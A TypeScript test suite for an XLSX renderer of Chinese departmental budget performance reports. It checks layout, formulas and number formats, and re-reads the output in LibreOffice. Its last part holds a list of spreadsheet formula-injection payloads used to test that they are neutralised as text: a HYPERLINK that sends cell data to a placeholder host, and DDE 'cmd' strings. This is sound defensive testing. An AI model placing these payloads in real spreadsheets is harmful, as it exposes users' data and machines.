import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test } from 'node:test';
import { pathToFileURL } from 'node:url';
import { promisify } from 'node:util';
import ExcelJS from 'exceljs';
import { strFromU8, unzipSync } from 'fflate';
import type { Exact } from '../core/exact.ts';
import { readDocument } from '../ingest/readers/read.ts';
import type { Cell, Doc, Table } from './doc.ts';
import { text } from './doc.ts';
import { SAMPLE_DOC } from './testdata/sample-doc.ts';
import { columnLetter, displayWidth, renderXlsx, toDouble } from './xlsx.ts';

async function load(bytes: Uint8Array): Promise<ExcelJS.Workbook> {
  const wb = new ExcelJS.Workbook();
  // exceljs types its input as an ArrayBuffer (it hands it to JSZip, which takes one).
  await wb.xlsx.load(new Uint8Array(bytes).buffer);
  return wb;
}

function sheet(wb: ExcelJS.Workbook, name: string): ExcelJS.Worksheet {
  const ws = wb.getWorksheet(name);
  assert.ok(ws, `no sheet "${name}"`);
  return ws;
}

/** The merged ranges of a sheet ("A4:A6"), as exceljs reads them back. */
function merges(ws: ExcelJS.Worksheet): string[] {
  const model = ws.model as unknown as { merges?: string[] };
  return model.merges ?? [];
}

/** The sheet row whose column A is `label`. */
function rowOf(ws: ExcelJS.Worksheet, label: string): number {
  let found = 0;
  ws.eachRow((row, n) => {
    if (found === 0 && row.getCell(1).value === label) found = n;
  });
  assert.ok(found > 0, `no row "${label}"`);
  return found;
}

function formulaOf(cell: ExcelJS.Cell): { formula: string; result: unknown } {
  const v = cell.value;
  assert.ok(v !== null && typeof v === 'object' && 'formula' in v, `${cell.address} has no formula: ${JSON.stringify(v)}`);
  return { formula: v.formula, result: v.result };
}

const x = (n: bigint, d = 1n): Exact => ({ n, d });
const money = (n: bigint, d: bigint, extra: Omit<Cell, 'value'> = {}, decimals = 2): Cell => ({ value: { type: 'money', value: x(n, d), unit: '元', decimals }, ...extra });

test('SAMPLE_DOC: sheets, merges, live formulas with their values, number formats, frozen header, widths', async () => {
  const bytes = await renderXlsx(SAMPLE_DOC);
  const wb = await load(bytes);
  assert.deepEqual(
    wb.worksheets.map((ws) => ws.name),
    ['部门整体支出绩效自评表', '表3 项目支出', '基本信息'],
  );
  assert.equal(wb.creator, 'jixiao');
  assert.equal(wb.title, SAMPLE_DOC.meta.title);

  // The form: caption and unit on top (2 rows), then the form; no header rows, so the freeze is under the unit line.
  const form = sheet(wb, '部门整体支出绩效自评表');
  assert.equal(form.getCell('A1').value, '部门整体支出绩效自评表');
  assert.equal(form.getCell('A1').font.bold, true);
  assert.equal(form.getCell('A1').font.size, 14);
  assert.equal(form.getCell('A2').value, '单位：万元');
  assert.equal(form.getCell('A2').alignment.horizontal, 'right');
  const formMerges = merges(form);
  const funds = rowOf(form, '部门资金情况');
  assert.ok(formMerges.includes(`A${funds}:A${funds + 2}`), `部门资金情况 spans 3 rows: ${formMerges.join(' ')}`);
  const narrative = rowOf(form, '部门整体绩效');
  assert.ok(formMerges.includes(`B${narrative}:E${narrative}`), `the narrative spans 4 columns: ${formMerges.join(' ')}`);
  assert.ok(formMerges.includes('A1:E1') && formMerges.includes('A2:E2'));
  assert.equal(form.getRow(narrative).height, 409, 'the long narrative gets the tallest row Excel allows');
  assert.equal(form.getCell(`B${narrative}`).alignment.vertical, 'top', 'a narrative cut at 409 pt shows its beginning');
  assert.equal(form.getCell(`B${funds}`).alignment.vertical, 'middle');
  assert.equal(form.views[0]?.state, 'frozen');
  assert.equal((form.views[0] as { ySplit?: number }).ySplit, 2);
  // Label cells: grey, bold, centred; covered positions of a merge keep their borders.
  const labelCell = form.getCell(`A${funds}`);
  assert.equal(labelCell.font.name, '宋体');
  assert.equal(labelCell.font.bold, true);
  assert.equal(labelCell.alignment.horizontal, 'center');
  assert.deepEqual(labelCell.fill, { type: 'pattern', pattern: 'solid', fgColor: { argb: 'FFF2F2F2' } });
  assert.equal(form.getCell(`A${funds + 2}`).border.bottom?.style, 'thin');
  assert.equal(form.getCell(`E${narrative}`).border.right?.style, 'thin');
  // Real numbers: 3916.29 (万元) is a number with a money format; a rate is its fraction with a percent format.
  assert.equal(form.getCell(`C${funds}`).value, 3916.29);
  assert.equal(form.getCell(`C${funds}`).numFmt, '#,##0.00');
  assert.equal(form.getCell(`C${funds + 2}`).value, 0.9712);
  assert.equal(form.getCell(`C${funds + 2}`).numFmt, '0.00%');

  // The project table: caption, unit, two header rows, then the projects.
  const projects = sheet(wb, '表3 项目支出');
  assert.equal((projects.views[0] as { ySplit?: number }).ySplit, 2 + 2);
  assert.equal(projects.pageSetup.printTitlesRow, '3:4');
  assert.equal(projects.pageSetup.paperSize, 9);
  assert.equal(projects.pageSetup.fitToWidth, 1);
  assert.equal(projects.pageSetup.fitToHeight, 0);
  assert.ok(merges(projects).includes('A3:A4') && merges(projects).includes('B3:E3'));
  assert.equal(projects.getCell('B3').font.bold, true);
  assert.deepEqual(projects.getCell('C3').fill, { type: 'pattern', pattern: 'solid', fgColor: { argb: 'FFF2F2F2' } });
  assert.ok((projects.getColumn(1).width ?? 0) > 20, `column A is ${projects.getColumn(1).width}`);

  const p1 = rowOf(projects, '应急指挥救援业务经费');
  const p3 = rowOf(projects, '未启用项目');
  const total = rowOf(projects, '合计');
  assert.deepEqual([p1, p3, total], [5, 7, 8]);
  assert.deepEqual(formulaOf(projects.getCell(`E${p1}`)), { formula: 'B5+C5-D5', result: 373800 });
  assert.equal(projects.getCell(`E${p1}`).numFmt, '#,##0.00');
  assert.deepEqual(formulaOf(projects.getCell(`G${p1}`)), { formula: 'IF(E5=0,"—",F5/E5)', result: 0.5532 });
  assert.equal(projects.getCell(`G${p1}`).numFmt, '0.00%');
  assert.deepEqual(formulaOf(projects.getCell(`G${p3}`)), { formula: 'IF(E7=0,"—",F7/E7)', result: '—' });
  assert.deepEqual(formulaOf(projects.getCell(`F${total}`)), { formula: 'SUM(F5:F7)', result: 705466.4 });
  assert.equal(projects.getCell(`F${total}`).font.bold, true, 'a total row is bold');
  assert.match(String(projects.getCell(`F${total}`).note), /705,466\.40/);
  // Plain figures stay plain numbers.
  assert.equal(projects.getCell(`B${p1}`).value, 320000);
  assert.equal(projects.getCell(`F${p1}`).value, 206786.4);

  const started = performance.now();
  for (let i = 0; i < 20; i++) await renderXlsx(SAMPLE_DOC);
  const ms = performance.now() - started;
  console.log(`renderXlsx(SAMPLE_DOC) × 20: ${ms.toFixed(0)} ms (${(ms / 20).toFixed(1)} ms each), ${bytes.length} bytes`);
});

test('the project importer reads the figures back as the sheet shows them (formula cells carry their values)', async () => {
  const r = await readDocument(await renderXlsx(SAMPLE_DOC), 'x.xlsx');
  assert.ok(r.ok, JSON.stringify(!r.ok && r.problems));
  const line = (sheetName: string, first: string, column = 0): readonly string[] => {
    const found = r.document.lines.find((l) => l.loc.table === sheetName && l.cells[column] === first);
    assert.ok(found, `no line "${first}" in ${sheetName}`);
    return found.cells;
  };
  assert.deepEqual(line('表3 项目支出', '应急指挥救援业务经费'), ['应急指挥救援业务经费', '320000.00', '422921.00', '369121.00', '373800.00', '206786.40', '55.32%']);
  assert.deepEqual(line('表3 项目支出', '未启用项目'), ['未启用项目', '0.00', '0.00', '0.00', '0.00', '0.00', '—']);
  assert.deepEqual(line('表3 项目支出', '合计'), ['合计', '820000.00', '422921.00', '370441.00', '872480.00', '705466.40', '80.86%']);
  assert.deepEqual(line('部门整体支出绩效自评表', '部门资金情况'), ['部门资金情况', '年初预算', '3916.29', '调整后预算', '4171.75']);
  assert.deepEqual(line('部门整体支出绩效自评表', '预算完成率', 1), ['', '预算完成率', '97.12%', '预算调整率', '6.52%']);
  assert.deepEqual(line('基本信息', '年初预算（万元）'), ['年初预算（万元）', '3916.29']);
});

test('sheet names, skipped tables, a document without tables, formulas over scattered cells, decimals', async () => {
  const table = (sheetName: string, body: Table['body'], extra: Partial<Table> = {}): Table => ({
    id: sheetName,
    sheet: sheetName,
    columns: [
      { key: 'a', width: 4 },
      { key: 'b', width: 4 },
      { key: 'c', width: 4 },
    ],
    header: [],
    body,
    ...extra,
  });
  const one = [{ cells: [text('x'), text('y'), text('z')] }];
  const doc: Doc = {
    meta: { title: '测试', layout: 'form', orientation: 'landscape' },
    blocks: [
      { kind: 'table', table: table('收支/情况:[2023]*?', one) },
      { kind: 'table', table: table('收支情况2023', one) },
      { kind: 'table', table: table('一二三四五六七八九十一二三四五六七八九十一二三四五六七八九十一二三', one) },
      { kind: 'table', table: table('一二三四五六七八九十一二三四五六七八九十一二三四五六七八九十一二三', one) },
      { kind: 'table', table: table('仅 Word', one), formats: ['docx', 'pdf'] },
      { kind: 'table', table: table('无格式', one), formats: [] },
      {
        kind: 'table',
        table: table('公式', [
          { key: 'r1', cells: [money(150n, 100n), money(50n, 100n), money(1234567n, 1000n, {}, 3)] },
          { key: 'r2', cells: [money(1n, 1n), text('说明'), { value: { type: 'number', value: x(85n, 1n), decimals: 0 } }] },
          { key: 'r3', cells: [money(2n, 1n), money(100n, 100n, { formula: { op: 'difference', a: { col: 'a' }, b: { col: 'a', row: 'r2' } } }), { value: { type: 'number', value: x(925n, 10n), decimals: 2 } }] },
          { cells: [money(350n, 100n, { formula: { op: 'sum', cells: [{ col: 'a', row: 'r1' }, { col: 'a', row: 'r3' }] } }), money(2n, 1n, { formula: { op: 'sum', cells: [{ col: 'a', row: 'r1' }, { col: 'b', row: 'r1' }] } }), { value: { type: 'percent', value: x(1n, 3n), decimals: 1 } }] },
        ]),
      },
    ],
  };
  const wb = await load(await renderXlsx(doc));
  assert.deepEqual(
    wb.worksheets.map((ws) => ws.name),
    ['收支情况2023', '收支情况2023（2）', '一二三四五六七八九十一二三四五六七八九十一二三四五六七八九十一', '一二三四五六七八九十一二三四五六七八九十一二三四五六七八（2）', '公式'],
  );
  assert.ok(wb.worksheets.every((ws) => ws.name.length <= 31));
  const ws = sheet(wb, '公式');
  assert.equal(ws.pageSetup.orientation, 'landscape');
  assert.equal(ws.getCell('A1').value, '测试', 'no caption: the document title');
  assert.equal((ws.views[0] as { ySplit?: number }).ySplit, 1, 'no unit note, no header: only the caption is frozen');
  assert.deepEqual(formulaOf(ws.getCell('B4')), { formula: 'A4-A3', result: 1 });
  assert.deepEqual(formulaOf(ws.getCell('A5')), { formula: 'A2+A4', result: 3.5 });
  assert.deepEqual(formulaOf(ws.getCell('B5')), { formula: 'A2+B2', result: 2 });
  assert.equal(ws.getCell('C2').numFmt, '#,##0.000');
  assert.equal(ws.getCell('C2').value, 1234.567);
  assert.equal(ws.getCell('C3').numFmt, '0');
  assert.equal(ws.getCell('C4').numFmt, '0.00');
  assert.equal(ws.getCell('C5').numFmt, '0.0%');
  assert.equal(ws.getCell('C5').value, 1 / 3);
  assert.equal(ws.getCell('B3').value, '说明');
  assert.equal(ws.getCell('B3').alignment.wrapText, true);

  const bare = await load(await renderXlsx({ meta: { title: '2023 年度部门整体支出绩效自评报告', layout: 'report' }, blocks: [{ kind: 'title', lines: ['报告'] }] }));
  assert.deepEqual(
    bare.worksheets.map((w) => [w.name, w.getCell('A1').value]),
    [['2023 年度部门整体支出绩效自评报告', '2023 年度部门整体支出绩效自评报告']],
  );
});

test('helpers: the nearest double of an exact figure, display widths, column letters', () => {
  assert.equal(toDouble(x(391629n, 100n)), 3916.29);
  assert.equal(toDouble(x(-5n, 10n)), -0.5);
  assert.equal(toDouble(x(1n, 3n)), 1 / 3);
  assert.equal(toDouble(x(2n, 3n * 10n ** 20n)), 2 / 3e20);
  assert.equal(toDouble(x(0n, 7n)), 0);
  assert.equal(toDouble(x(123456789012345678901234567n, 10n ** 20n)), 1234567.89012345678901234567);
  assert.equal(displayWidth('部门名称'), 8);
  assert.equal(displayWidth('2023 年'), 7);
  assert.equal(displayWidth('（1）—'), 7);
  assert.deepEqual([0, 25, 26, 701, 702].map(columnLetter), ['A', 'Z', 'AA', 'ZZ', 'AAA']);
});

const run = promisify(execFile);
const SOFFICE = '/usr/bin/soffice';

test('LibreOffice Calc opens the workbook, recalculates the formulas and shows the figures', { timeout: 120_000 }, async () => {
  assert.ok(existsSync(SOFFICE), `LibreOffice is needed for this test: apt-get install libreoffice-calc-nogui (no ${SOFFICE})`);
  const dir = mkdtempSync(join(tmpdir(), 'jixiao-xlsx-'));
  try {
    writeFileSync(join(dir, 'sample.xlsx'), await renderXlsx(SAMPLE_DOC));
    // A formula whose stored result is wrong on purpose: Calc shows 2.50 only if it recalculated.
    const stale: Doc = {
      meta: { title: '重算', layout: 'form' },
      blocks: [
        {
          kind: 'table',
          table: {
            id: 'stale',
            sheet: '重算',
            columns: ['i', 'p', 'm', 'adj'].map((key) => ({ key, width: 6 })),
            header: [],
            body: [{ cells: [money(1n, 1n), money(2n, 1n), money(5n, 10n), money(99n, 1n, { formula: { op: 'adjusted', initial: { col: 'i' }, increase: { col: 'p' }, decrease: { col: 'm' } } })] }],
          },
        },
      ],
    };
    writeFileSync(join(dir, 'stale.xlsx'), await renderXlsx(stale));
    // A private profile that recalculates XLSX formulas on load (Calc's default keeps the cached results).
    mkdirSync(join(dir, 'profile', 'user'), { recursive: true });
    writeFileSync(
      join(dir, 'profile', 'user', 'registrymodifications.xcu'),
      '<?xml version="1.0" encoding="UTF-8"?>\n<oor:items xmlns:oor="http://openoffice.org/2001/registry" xmlns:xs="http://www.w3.org/2001/XMLSchema" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"><item oor:path="/org.openoffice.Office.Calc/Formula/Load"><prop oor:name="OOXMLRecalcMode" oor:op="fuse"><value>0</value></prop></item></oor:items>\n',
    );
    // CSV of every sheet (-1), UTF-8 (76), cells as shown (the 9th token) so number formats apply.
    const filter = 'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,true,false,false,-1';
    const out = join(dir, 'out');
    await run(SOFFICE, ['--headless', '--norestore', `-env:UserInstallation=${pathToFileURL(join(dir, 'profile')).href}`, '--convert-to', filter, '--outdir', out, join(dir, 'sample.xlsx'), join(dir, 'stale.xlsx')], { timeout: 110_000 });
    const files = readdirSync(out);
    const csv = (name: string): string => {
      const file = files.find((f) => f.startsWith(name) && f.endsWith('.csv'));
      assert.ok(file, `no CSV for ${name} in ${files.join(', ')}`);
      return readFileSync(join(out, file), 'utf8');
    };
    const projects = csv('sample-表3');
    assert.ok(projects.includes('"373,800.00"'), projects);
    assert.match(projects, /应急指挥救援业务经费,"320,000.00","422,921.00","369,121.00","373,800.00","206,786.40",55.32%/);
    assert.match(projects, /未启用项目,0.00,0.00,0.00,0.00,0.00,—/);
    assert.match(projects, /合计,"820,000.00","422,921.00","370,441.00","872,480.00","705,466.40",80.86%/);
    assert.match(csv('sample-部门整体支出绩效自评表'), /部门资金情况,年初预算,"3,916.29",调整后预算,"4,171.75"/);
    assert.match(csv('stale'), /^重算,*\n1.00,2.00,0.50,2.50\n/);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

// ---- Formula injection --------------------------------------------------------------------------------------

/** Text a spreadsheet would take for a formula (OWASP's list), beside a formula the writer means. */
const HOSTILE = ['=HYPERLINK("http://example.invalid/?x="&A1,"点此核对")', '=cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '+1+1', '-2+3', '\t=1+1', '\r=1+1', '＝1+1'];
const INJECTION_DOC: Doc = {
  meta: { title: '=1+1 标题', layout: 'form' },
  blocks: [
    {
      kind: 'table',
      table: {
        id: 'inj',
        sheet: '注入',
        caption: '@说明',
        columns: [{ key: 'k', width: 30 }, { key: 'v', width: 8 }],
        header: [{ cells: [text('文字'), text('金额')] }],
        body: [
          ...HOSTILE.map((s, i) => ({ key: `r${i}`, cells: [text(s), money(BigInt(i + 1), 1n)] })),
          { cells: [text('合计'), money(36n, 1n, { formula: { op: 'sum', cells: HOSTILE.map((_, i) => ({ col: 'v', row: `r${i}` })) } })] },
          { cells: [text('普通文字'), text('—')] },
        ],
      },
    },
  ],
};

/** The cellXfs of a workbook's styles and the style index of a cell (by address) of its first sheet. */
function xfOf(bytes: Uint8Array, address: string): string {
  const files = unzipSync(bytes);
  const styles = strFromU8(files['xl/styles.xml']!);
  const xfs = [...(/<cellXfs[^>]*>([\s\S]*?)<\/cellXfs>/.exec(styles)?.[1] ?? '').matchAll(/<xf\b[^>]*?(?:\/>|>[\s\S]*?<\/xf>)/g)].map((m) => m[0]);
  const sheetXml = strFromU8(files['xl/worksheets/sheet1.xml']!);
  const s = new RegExp(`<c r="${address}"(?: s="(\\d+)")?`).exec(sheetXml);
  assert.ok(s, `no cell ${address}`);
  return xfs[Number(s[1] ?? 0)] ?? '';
}

test('formula-like text is stored as text with the Text format and quotePrefix; real formulas stay live', async () => {
  const bytes = await renderXlsx(INJECTION_DOC);
  const wb = await load(bytes);
  const ws = sheet(wb, '注入');
  HOSTILE.forEach((s, i) => {
    const cell = ws.getCell(3 + i, 1);
    // XML turns a bare CR into LF when the file is read (exceljs writes it unescaped); the leading mark stays.
    assert.equal(String(cell.value), s.replace(/\r/g, '\n'), `row ${i} keeps its text`);
    assert.equal(cell.type, ExcelJS.ValueType.String, `row ${i} is a text cell`);
    assert.equal(cell.numFmt, '@', `row ${i} has the Text format`);
    assert.match(xfOf(bytes, `A${3 + i}`), /quotePrefix="1"/, `row ${i} has the quote prefix`);
  });
  assert.match(xfOf(bytes, 'A1'), /quotePrefix="1"/, 'the caption banner too');
  // What the writer means as a formula is one, and plain text is left as it was.
  assert.deepEqual(formulaOf(ws.getCell(3 + HOSTILE.length, 2)), { formula: `SUM(B3:B${2 + HOSTILE.length})`, result: 36 });
  assert.doesNotMatch(xfOf(bytes, `B${3 + HOSTILE.length}`), /quotePrefix/);
  assert.doesNotMatch(xfOf(bytes, `A${4 + HOSTILE.length}`), /quotePrefix|numFmtId="49"/);
  // A workbook without such text is written as exceljs made it (no repacking).
  const plain = await renderXlsx(SAMPLE_DOC);
  assert.doesNotMatch(strFromU8(unzipSync(plain)['xl/styles.xml']!), /quotePrefix/);
});

test('LibreOffice reads the neutralised text as text: not evaluated in CSV, still Text-formatted when saved again', { timeout: 120_000 }, async () => {
  assert.ok(existsSync(SOFFICE), `LibreOffice is needed for this test: apt-get install libreoffice-calc-nogui (no ${SOFFICE})`);
  const dir = mkdtempSync(join(tmpdir(), 'jixiao-xlsx-inj-'));
  try {
    writeFileSync(join(dir, 'inj.xlsx'), await renderXlsx(INJECTION_DOC));
    // A profile that recalculates on load, so anything taken for a formula would show its result.
    mkdirSync(join(dir, 'profile', 'user'), { recursive: true });
    writeFileSync(
      join(dir, 'profile', 'user', 'registrymodifications.xcu'),
      '<?xml version="1.0" encoding="UTF-8"?>\n<oor:items xmlns:oor="http://openoffice.org/2001/registry" xmlns:xs="http://www.w3.org/2001/XMLSchema" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"><item oor:path="/org.openoffice.Office.Calc/Formula/Load"><prop oor:name="OOXMLRecalcMode" oor:op="fuse"><value>0</value></prop></item></oor:items>\n',
    );
    const profile = `-env:UserInstallation=${pathToFileURL(join(dir, 'profile')).href}`;
    const filter = 'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,true,false,false,-1';
    await run(SOFFICE, ['--headless', '--norestore', profile, '--convert-to', filter, '--outdir', join(dir, 'csv'), join(dir, 'inj.xlsx')], { timeout: 110_000 });
    const csvFile = readdirSync(join(dir, 'csv')).find((f) => f.endsWith('.csv'));
    assert.ok(csvFile, 'a CSV');
    const csv = readFileSync(join(dir, 'csv', csvFile), 'utf8');
    assert.ok(csv.includes('"=HYPERLINK(""http://example.invalid/?x=""&A1,""点此核对"")"'), csv);
    assert.match(csv, /^\+1\+1,/m, 'not evaluated to 2');
    assert.match(csv, /^-2\+3,/m, 'not evaluated to 1');
    assert.match(csv, /^＝1\+1,/m);
    assert.match(csv, /^合计,36\.00$/m, 'the real SUM is recalculated');
    // Saved again by LibreOffice, the cells keep the Text format: what is typed into them stays text.
    await run(SOFFICE, ['--headless', '--norestore', profile, '--convert-to', 'xlsx', '--outdir', join(dir, 'again'), join(dir, 'inj.xlsx')], { timeout: 110_000 });
    const again = new Uint8Array(readFileSync(join(dir, 'again', 'inj.xlsx')));
    const wb = await load(again);
    const ws = wb.worksheets[0]!;
    const v = ws.getCell('A3').value;
    const textOf = (x: ExcelJS.CellValue): string => (x !== null && typeof x === 'object' && 'richText' in x ? x.richText.map((r) => r.text).join('') : String(x));
    assert.equal(textOf(v), HOSTILE[0]);
    assert.equal(ws.getCell('A3').numFmt, '@');
    assert.equal(ws.getCell('A6').numFmt, '@');
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});
